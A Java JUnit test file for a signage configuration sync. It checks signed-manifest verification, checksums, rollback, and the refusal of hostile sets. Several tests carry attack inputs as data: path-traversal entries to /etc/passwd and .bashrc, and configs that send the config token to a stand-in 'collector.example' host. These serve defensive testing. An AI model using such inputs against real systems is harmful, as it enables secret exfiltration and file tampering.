package org.pulsewall.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.MessageDigest;
import java.security.PrivateKey;
import java.security.Signature;
import java.time.Duration;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.Executors;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import okhttp3.OkHttpClient;
import okhttp3.mockwebserver.Dispatcher;
import okhttp3.mockwebserver.MockResponse;
import okhttp3.mockwebserver.MockWebServer;
import okhttp3.mockwebserver.RecordedRequest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigSyncTest {
    private static final KeyPair KEYS = ed25519();
    private static final String WALL = "screens:\n  - { monitor: 1, playlist: lobby, theme: brand }\n";
    private static final String LOBBY = "name: lobby\nitems:\n  - { scene: clock, duration: 10s }\n";

    @TempDir
    Path state;
    private final MockWebServer server = new MockWebServer();
    private final MockWebServer otherHost = new MockWebServer();
    private final Map<String, MockResponse> files = new ConcurrentHashMap<>();
    private final OkHttpClient http = new OkHttpClient.Builder().callTimeout(Duration.ofSeconds(5)).build();
    private WallConfigLoader loader;

    @BeforeEach
    void serve() throws IOException {
        Path credentials = Files.createDirectories(state.resolve("credentials"));
        Files.writeString(credentials.resolve("ops.token"), "3f9a0c41d27e8b56a1c0ffee5d4b9e72");
        Secrets secrets = new Secrets(Map.of("PULSEWALL_CONFIG_TOKEN", "s3cret",
                "CREDENTIALS_DIRECTORY", credentials.toString())::get);
        loader = new WallConfigLoader(ConfigChecks.NONE, null, TrustPolicy.fetched(secrets, state));
        server.setDispatcher(new Dispatcher() {
            @Override
            public MockResponse dispatch(RecordedRequest request) {
                String path = request.getRequestUrl().encodedPath().replaceFirst("^/wall/lobby-01/", "");
                MockResponse r = files.get(path);
                if (r == null) {
                    return new MockResponse().setResponseCode(404);
                }
                String etag = r.getHeaders().get("ETag");
                if (etag != null && etag.equals(request.getHeader("If-None-Match"))) {
                    return new MockResponse().setResponseCode(304);
                }
                return r;
            }
        });
        server.start(InetAddress.getLoopbackAddress(), 0);
        otherHost.start(InetAddress.getLoopbackAddress(), 0);
    }

    @AfterEach
    void stop() throws IOException {
        server.shutdown();
        otherHost.shutdown();
    }

    private static Map<String, String> set(String wall, String lobby) {
        Map<String, String> set = new LinkedHashMap<>();
        set.put("wall.yaml", wall);
        set.put("playlists/lobby.yaml", lobby);
        set.put("themes/brand.css", ".pw-screen { }");
        return set;
    }

    /** Serves the files and a manifest pinning each by sha256, signed with the bootstrap's key. */
    private void publish(String etag, Map<String, String> set) {
        StringBuilder manifest = new StringBuilder("{\"files\": [");
        set.forEach((path, body) -> {
            manifest.append(manifest.length() > 11 ? ", " : "").append("{\"path\": \"").append(path)
                    .append("\", \"sha256\": \"").append(sha256(body)).append("\"}");
            files.put(path, new MockResponse().setBody(body));
        });
        publishManifest(etag, manifest.append("]}").toString(), KEYS.getPrivate());
    }

    private void publish(String etag, String wall, String lobby) {
        publish(etag, set(wall, lobby));
    }

    private void publishManifest(String etag, String manifest, PrivateKey signer) {
        files.put("manifest.json", new MockResponse().setBody(manifest).setHeader("ETag", etag));
        files.put("manifest.json.sig", new MockResponse().setBody(sign(manifest, signer)));
    }

    private ConfigSync sync() {
        return sync(dir -> loader.load(ConfigBase.directory(dir)));
    }

    private ConfigSync sync(ConfigSync.SetCheck check) {
        Bootstrap bootstrap = new Bootstrap(server.url("/wall/lobby-01/").toString(), Duration.ofMinutes(5), "s3cret",
                KEYS.getPublic(), List.of());
        return new ConfigSync(bootstrap, state.resolve("config"), http, check);
    }

    private String playing(String file) throws IOException {
        return Files.readString(state.resolve("config/current").resolve(file), StandardCharsets.UTF_8);
    }

    /** A sync playing the good set v1, the starting point of every attack. */
    private ConfigSync playingV1() throws IOException {
        publish("\"v1\"", WALL, LOBBY);
        ConfigSync sync = sync();
        assertThat(sync.syncOnce()).isEqualTo(ConfigSync.Outcome.UPDATED);
        sync.confirm();
        return sync;
    }

    private void stillPlayingV1() throws IOException {
        assertThat(playing("wall.yaml")).isEqualTo(WALL);
        assertThat(playing("playlists/lobby.yaml")).isEqualTo(LOBBY);
        assertThat(leftoverStaging()).isFalse();
    }

    @Test
    void appliesAValidSetAndSendsTheToken() throws Exception {
        publish("\"v1\"", WALL, LOBBY);
        ConfigSync sync = sync();

        assertThat(sync.syncOnce()).isEqualTo(ConfigSync.Outcome.UPDATED);

        assertThat(sync.current()).contains(state.resolve("config/current"));
        assertThat(playing("playlists/lobby.yaml")).isEqualTo(LOBBY);
        assertThat(loader.load(ConfigBase.directory(sync.current().orElseThrow())).playlists()).containsKey("lobby");
        assertThat(server.takeRequest().getHeader("Authorization")).isEqualTo("Bearer s3cret");
    }

    @Test
    void notModifiedManifestChangesNothing() throws Exception {
        ConfigSync sync = playingV1();
        int requests = server.getRequestCount();

        assertThat(sync.syncOnce()).isEqualTo(ConfigSync.Outcome.UNCHANGED);

        assertThat(server.getRequestCount()).isEqualTo(requests + 1);
        assertThat(Files.exists(state.resolve("config/previous"))).isFalse();
    }

    @Test
    void refusesASetThatDoesNotValidateAndKeepsTheOldOne() throws Exception {
        ConfigSync sync = playingV1();
        publish("\"v2\"", WALL, LOBBY + "  - { scene: bogus, duration: 1s }\n");

        assertThat(sync.syncOnce()).isEqualTo(ConfigSync.Outcome.REJECTED);

        stillPlayingV1();
        assertThat(sync.lastProblems()).anySatisfy(p -> assertThat(p.toString())
                .startsWith(server.url("/wall/lobby-01/playlists/lobby.yaml").toString()).contains("bogus"));
    }

    @Test
    void aRefusedSetIsValidatedOnlyOnce() throws Exception {
        publish("\"v1\"", WALL, LOBBY + "  - { scene: bogus, duration: 1s }\n");
        AtomicInteger checks = new AtomicInteger();
        ConfigSync sync = sync(dir -> {
            checks.incrementAndGet();
            loader.load(ConfigBase.directory(dir));
        });

        assertThat(sync.syncOnce()).isEqualTo(ConfigSync.Outcome.REJECTED);
        assertThat(sync.syncOnce()).isEqualTo(ConfigSync.Outcome.REJECTED);

        assertThat(checks).hasValue(1);
        assertThat(sync.current()).isEmpty();
    }

    @Test
    void partialDownloadFailureSwapsNothing() throws Exception {
        ConfigSync sync = playingV1();
        publish("\"v2\"", WALL, LOBBY + "  - { scene: message, text: new, duration: 5s }\n");
        files.put("themes/brand.css", new MockResponse().setResponseCode(503));

        assertThatThrownBy(sync::syncOnce).isInstanceOf(IOException.class)
                .hasMessageContaining("HTTP 503 from " + server.url("/wall/lobby-01/themes/brand.css"));
        stillPlayingV1();
    }

    @Test
    void serverDownAtStartLeavesTheLastGoodSetOnDisk() throws Exception {
        playingV1();
        server.shutdown();

        ConfigSync restarted = sync();
        assertThatThrownBy(restarted::syncOnce).isInstanceOf(IOException.class)
                .hasMessageContaining("/wall/lobby-01/manifest.json");

        Path current = restarted.current().orElseThrow();
        assertThat(loader.load(ConfigBase.directory(current)).playlists()).containsKey("lobby");
    }

    @Test
    void recoversTheLastGoodSetWhenASwapWasCutBetweenItsTwoRenames() throws Exception {
        playingV1();
        Files.move(state.resolve("config/current"), state.resolve("config/previous"));

        assertThat(sync().current()).contains(state.resolve("config/current"));
        assertThat(playing("playlists/lobby.yaml")).isEqualTo(LOBBY);
    }

    @Test
    void refusesAnUnsignedManifestOrOneSignedWithAnotherKey() throws Exception {
        ConfigSync sync = playingV1();
        publish("\"v2\"", WALL.replace("brand", "brand "), LOBBY);
        files.remove("manifest.json.sig");
        assertThatThrownBy(sync::syncOnce).isInstanceOf(IOException.class).hasMessageContaining("manifest.json.sig");

        publish("\"v3\"", WALL, LOBBY + "  - { scene: message, text: forged, duration: 5s }\n");
        String manifest = files.get("manifest.json").getBody().readUtf8();
        publishManifest("\"v3\"", manifest, ed25519().getPrivate());
        assertThatThrownBy(sync::syncOnce).isInstanceOf(IOException.class)
                .hasMessageContaining("signature does not match the key in bootstrap.yaml");
        stillPlayingV1();
    }

    @Test
    void refusesAManifestEntryWithoutSha256() throws Exception {
        ConfigSync sync = playingV1();
        files.put("wall.yaml", new MockResponse().setBody(WALL));
        publishManifest("\"v2\"", "{\"files\": [\"wall.yaml\"]}", KEYS.getPrivate());

        assertThatThrownBy(sync::syncOnce).isInstanceOf(IOException.class).hasMessageContaining("'wall.yaml' has no sha256");
        stillPlayingV1();
    }

    @Test
    void refusesEntriesThatLeaveTheSetOrItsServerAndSendsTheTokenNowhereElse() throws Exception {
        ConfigSync sync = playingV1();
        String sum = sha256(WALL);
        for (String entry : List.of("../../etc/passwd", "http:/127.0.0.1:" + otherHost.getPort() + "/x",
                "//127.0.0.1:" + otherHost.getPort() + "/x", "https://127.0.0.1:" + otherHost.getPort() + "/x",
                "/etc/passwd", ".set-trial")) {
            publishManifest("\"" + entry + "\"", "{\"files\": [{\"path\": \"" + entry + "\", \"sha256\": \"" + sum + "\"}]}",
                    KEYS.getPrivate());
            assertThatThrownBy(sync::syncOnce).as(entry).isInstanceOf(IOException.class)
                    .hasMessageContaining("'" + entry + "'");
        }
        assertThat(otherHost.getRequestCount()).isZero();
        stillPlayingV1();
    }

    @Test
    void refusesAFileWhoseChecksumDiffersFromTheManifest() throws Exception {
        ConfigSync sync = playingV1();
        publish("\"v2\"", WALL, LOBBY + "  - { scene: message, text: new, duration: 5s }\n");
        files.put("themes/brand.css", new MockResponse().setBody(".pw-screen { color: red }"));

        assertThatThrownBy(sync::syncOnce).isInstanceOf(IOException.class).hasMessageContaining("sha256 mismatch");
        stillPlayingV1();
    }

    @Test
    void refusesAManifestOverItsSizeCap() throws Exception {
        ConfigSync sync = playingV1();
        publishManifest("\"big\"", "{\"files\": [], \"pad\": \"" + "x".repeat(SignedManifest.MAX_MANIFEST_BYTES) + "\"}",
                KEYS.getPrivate());

        assertThatThrownBy(sync::syncOnce).isInstanceOf(IOException.class).hasMessageContaining("larger than 262144 bytes");
        stillPlayingV1();
    }

    @Test
    void refusesAFetchedSetThatSendsSecretsToAServerOfItsChoosing() throws Exception {
        ConfigSync sync = playingV1();
        publish("\"v2\"", """
                sources:
                  - { id: a, type: http-json, url: "https://collector.example/x?b=${env:PULSEWALL_CONFIG_TOKEN}" }
                  - { id: b, type: http-json, url: "https://collector.example/y", headers: { X: "${env:PULSEWALL_CONFIG_TOKEN}" } }
                  - { id: c, type: http-json, url: "https://collector.example/z", queryParameters: { t: "${file:ops.token}" } }
                """ + WALL, LOBBY);

        assertThat(sync.syncOnce()).isEqualTo(ConfigSync.Outcome.REJECTED);

        assertThat(sync.lastProblems()).map(ConfigProblem::toString)
                .anyMatch(p -> p.contains("wall.yaml:2: a secret may not be part of a URL"))
                .anyMatch(p -> p.contains("wall.yaml:3: ${env:PULSEWALL_CONFIG_TOKEN} is not allowed in a fetched"))
                .anyMatch(p -> p.contains("wall.yaml:4: a fetched configuration set may use a secret only in a source's headers"));
        stillPlayingV1();
    }

    @Test
    void refusesAFetchedSetThatWritesOutsideTheStateDirectoryOrOpensTheOpsEndpoint() throws Exception {
        ConfigSync sync = playingV1();
        publish("\"v2\"", "ops: { token: \"${file:ops.token}\", listen: \"0.0.0.0:8765\", proofOfPlay: /home/kiosk/.profile }\n"
                + "store: { cache: ../../../.bashrc }\n" + WALL, LOBBY);

        assertThat(sync.syncOnce()).isEqualTo(ConfigSync.Outcome.REJECTED);

        assertThat(sync.lastProblems()).map(ConfigProblem::toString)
                .anyMatch(p -> p.contains("wall.yaml:1: '/home/kiosk/.profile' must stay inside the state directory"))
                .anyMatch(p -> p.contains("wall.yaml:1: a fetched configuration set may open the ops endpoint on loopback only"))
                .anyMatch(p -> p.contains("wall.yaml:2: '../../../.bashrc' must stay inside the state directory"));
        stillPlayingV1();
    }

    @Test
    void refusesAFetchedSetWithATwentyKilobyteWord() throws Exception {
        ConfigSync sync = playingV1();
        publish("\"v2\"", "moderation: { extraWords: [" + "w".repeat(20_000) + "] }\n" + WALL, LOBBY);

        assertThat(sync.syncOnce()).isEqualTo(ConfigSync.Outcome.REJECTED);

        assertThat(sync.lastProblems()).singleElement().asString().contains("an entry of 20000 characters");
        stillPlayingV1();
    }

    @Test
    void refusesASetThatValidatesButCannotBeBuilt() throws Exception {
        playingV1();
        ConfigSync sync = sync(dir -> {
            loader.load(ConfigBase.directory(dir));
            throw new StackOverflowError();
        });
        publish("\"v2\"", WALL, LOBBY + "  - { scene: message, text: new, duration: 5s }\n");

        assertThat(sync.syncOnce()).isEqualTo(ConfigSync.Outcome.REJECTED);

        assertThat(sync.lastProblems()).singleElement().asString().contains("cannot be built").contains("StackOverflowError");
        stillPlayingV1();
    }

    @Test
    void aSetThatCannotBeAppliedIsRolledBackAndNotFetchedAgain() throws Exception {
        ConfigSync sync = playingV1();
        publish("\"v2\"", WALL, LOBBY + "  - { scene: message, text: new, duration: 5s }\n");
        List<String> applied = new java.util.ArrayList<>();
        ScheduledExecutorService pool = Executors.newSingleThreadScheduledExecutor();
        try {
            sync.runOnce(dir -> {
                String lobby = read(dir.resolve("playlists/lobby.yaml"));
                applied.add(lobby);
                if (!lobby.equals(LOBBY)) {
                    throw new IllegalStateException("the screens cannot play it");
                }
            }, pool);
        } finally {
            pool.shutdownNow();
        }

        assertThat(applied).hasSize(2).last().isEqualTo(LOBBY);
        stillPlayingV1();
        int requests = server.getRequestCount();
        assertThat(sync().syncOnce()).isEqualTo(ConfigSync.Outcome.REJECTED);
        assertThat(server.getRequestCount() - requests).isEqualTo(2); // manifest and signature, no files
    }

    @Test
    void aSetThePlayerKeepsFailingToStartOnIsRolledBackByItself() throws Exception {
        playingV1();
        publish("\"v2\"", WALL, LOBBY + "  - { scene: message, text: new, duration: 5s }\n");
        assertThat(sync().syncOnce()).isEqualTo(ConfigSync.Outcome.UPDATED);

        for (int start = 0; start < ConfigSync.TRIAL_STARTS; start++) {
            assertThat(sync().startingSet()).isPresent();
            assertThat(playing("playlists/lobby.yaml")).isNotEqualTo(LOBBY);
        }
        assertThat(sync().startingSet()).contains(state.resolve("config/current"));

        stillPlayingV1();
        assertThat(sync().syncOnce()).isEqualTo(ConfigSync.Outcome.REJECTED);
    }

    @Test
    void aConfirmedSetStaysHoweverOftenThePlayerStarts() throws Exception {
        playingV1();
        publish("\"v2\"", WALL, LOBBY + "  - { scene: message, text: new, duration: 5s }\n");
        ConfigSync sync = sync();
        sync.syncOnce();
        sync.confirm();

        for (int start = 0; start < 5; start++) {
            sync().startingSet();
        }
        assertThat(playing("playlists/lobby.yaml")).contains("text: new");
    }

    @Test
    void scheduledSyncHandsEachSwappedSetToTheScreens() throws Exception {
        publish("\"v1\"", WALL, LOBBY);
        BlockingQueue<Path> swapped = new LinkedBlockingQueue<>();
        ScheduledExecutorService pool = Executors.newSingleThreadScheduledExecutor();
        try {
            sync().start(pool, swapped::add);
            assertThat(swapped.poll(10, TimeUnit.SECONDS)).isEqualTo(state.resolve("config/current"));
        } finally {
            pool.shutdownNow();
        }
    }

    private boolean leftoverStaging() throws IOException {
        try (var list = Files.list(state.resolve("config"))) {
            return list.anyMatch(p -> p.getFileName().toString().startsWith(".staging-"));
        }
    }

    private static String read(Path file) {
        try {
            return Files.readString(file);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String sha256(String body) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(body.getBytes(StandardCharsets.UTF_8)));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String sign(String manifest, PrivateKey key) {
        try {
            Signature ed = Signature.getInstance("Ed25519");
            ed.initSign(key);
            ed.update(manifest.getBytes(StandardCharsets.UTF_8));
            return Base64.getEncoder().encodeToString(ed.sign());
        } catch (java.security.GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static KeyPair ed25519() {
        try {
            return KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
